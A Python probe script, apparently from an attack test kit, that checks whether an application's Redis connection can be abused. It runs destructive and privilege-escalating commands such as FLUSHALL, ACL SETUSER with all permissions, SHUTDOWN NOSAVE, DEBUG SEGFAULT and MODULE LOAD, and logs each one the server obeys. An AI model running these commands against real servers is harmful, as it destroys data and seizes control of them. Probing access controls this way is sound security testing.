"""Every command that would let it rule the server."""

import os

from attack_kit import is_worker, ran, redis, won

COMMANDS = """FLUSHALL|FLUSHDB|CONFIG GET *|CONFIG SET maxmemory 1|CONFIG REWRITE|CONFIG RESETSTAT
ACL LIST|ACL WHOAMI|ACL SETUSER student +@all|ACL GETUSER default|ACL LOG|SHUTDOWN NOSAVE
CLIENT LIST|CLIENT KILL TYPE normal|CLIENT PAUSE 100000|CLIENT NO-EVICT on|DEBUG SLEEP 30
DEBUG SEGFAULT|MONITOR|SAVE|BGSAVE|BGREWRITEAOF|REPLICAOF 127.0.0.1 1|SLAVEOF NO ONE|SYNC|PSYNC ? -1
MODULE LIST|MODULE LOAD /tmp/x.so|MIGRATE 127.0.0.1 1 key 0 1|SLOWLOG GET|LATENCY DOCTOR|SWAPDB 0 1
CLUSTER INFO|FAILOVER|ROLE|RESTORE x 0 y|PFDEBUG ENCODING x|LASTSAVE|KEYS *|INFO"""
# Ordinary programs use these.
HARMLESS = {"ACL WHOAMI", "KEYS *", "INFO"}

ran()
# One check of 1_1 runs the app where nothing names a server.
if "CELERY_RESULT_BACKEND" in os.environ and not is_worker():
    client = redis()
    for line in COMMANDS.replace("\n", "|").split("|"):
        try:
            client.execute_command(*line.split())
        except Exception:
            continue
        else:
            if line not in HARMLESS:
                won(f"{line} was obeyed")
